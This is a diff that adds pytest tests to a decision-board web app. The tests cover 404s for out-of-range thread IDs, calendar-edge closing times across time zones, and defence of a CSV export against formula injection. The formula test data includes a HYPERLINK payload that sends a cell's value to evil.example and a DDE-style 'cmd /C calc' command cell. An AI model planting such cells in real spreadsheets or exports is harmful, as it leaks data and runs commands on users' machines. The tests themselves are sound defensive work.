@@ -669,3 +669,89 @@ def test_needs_me_runs_the_same_queries_for_2_and_20_open_proposals(board):
         board.propose("facilitator", title=f"Open {i}")
     board.decided(actions=[("Act", "member", None)])
     assert _queries(board.app, client, "/needs-me") == small
+
+
+# ---------------------------------------------------------------- inputs that used to end in a 500
+
+
+@pytest.mark.parametrize("thread", ["99999999999999999999", str(2**31), "-1"])
+def test_a_thread_id_no_row_can_have_is_not_found_on_the_new_proposal_page(board, thread):
+    before = board.counts()
+    client = board.client("member")
+    assert client.get(f"/g/coop/decisions/new?thread={thread}").status_code == 404
+    data = {"title": "Paint the door", "body": "Blue.", "days": "3", "thread": thread}
+    assert client.post("/g/coop/decisions/new", data=data).status_code == 404
+    assert client.post(f"/g/coop/decisions/new?thread={thread}", data=data).status_code == 404
+    assert board.counts() == before
+
+
+EDGE_TIMES = [("0001-01-01T00:00", "The closing time must be in the future."),
+              ("9999-12-31T23:59", "A proposal stays open at most 90 days.")]
+# Seoul is ahead of UTC (year 1 has no room), New York behind it (year 9999 has none).
+ZONES = ["Asia/Seoul", "America/New_York", "UTC"]
+
+
+def _in_zone(board, who, zone):
+    from app.accounts.models import User
+
+    board.set(User, board.uid(who), timezone=zone)
+
+
+@pytest.mark.parametrize("zone", ZONES)
+@pytest.mark.parametrize("closes_at, message", EDGE_TIMES)
+def test_a_closing_time_at_the_edge_of_the_calendar_is_refused_with_a_message(board, zone, closes_at, message):
+    _in_zone(board, "member", zone)
+    before = board.counts()
+    response = board.client("member").post("/g/coop/decisions/new", data={
+        "title": "Paint the door", "body": "Blue.", "closes_at": closes_at})
+    assert response.status_code == 422
+    assert message in page(response)
+    assert board.counts() == before
+
+
+@pytest.mark.parametrize("zone", ZONES)
+@pytest.mark.parametrize("closes_at, message", EDGE_TIMES)
+def test_opening_or_reopening_at_the_edge_of_the_calendar_is_refused_with_a_message(board, zone, closes_at, message):
+    draft = board.propose("facilitator", draft=True)
+    closed = board.propose("member")
+    board.close(closed)
+    _in_zone(board, "facilitator", zone)
+    client = board.client("facilitator")
+    for path in (f"/p/{draft}/open", f"/p/{closed}/reopen"):
+        response = client.post(path, data={"closes_at": closes_at}, follow_redirects=True)
+        assert response.status_code == 200
+        assert message in page(response)
+    assert board.get(Proposal, draft, "status") == "draft"
+    assert board.get(Proposal, closed, "status") == "closed"
+
+
+def test_opening_with_a_time_that_is_not_a_time_says_so(board):
+    draft = board.propose("member", draft=True)
+    response = board.client("member").post(f"/p/{draft}/open", data={"closes_at": "soon"}, follow_redirects=True)
+    assert "Not a valid datetime value." in page(response)
+    assert board.get(Proposal, draft, "status") == "draft"
+
+
+# ---------------------------------------------------------------- spreadsheet formulas
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
+            "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+def test_the_register_csv_writes_no_cell_a_spreadsheet_would_run_as_a_formula(board):
+    for i, formula in enumerate(FORMULAS):
+        pid = board.propose("member", title=formula)
+        board.close(pid)
+        board.outcome(pid, statement=FORMULAS[-1 - i])
+    body = board.client("member").get("/g/coop/register.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) == 1 + len(FORMULAS)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
+    # What was typed (less the blanks around it, which titles and statements lose) is still there,
+    # behind the quote that makes it text: as a title and as a statement.
+    for row in rows[1:]:
+        assert row[2].startswith("'") and row[5].startswith("'")
+    assert {"'" + f.strip() for f in FORMULAS} == {row[2] for row in rows[1:]} == {row[5] for row in rows[1:]}
+    assert {row[7] for row in rows[1:]} == {"0"}  # numbers stay numbers
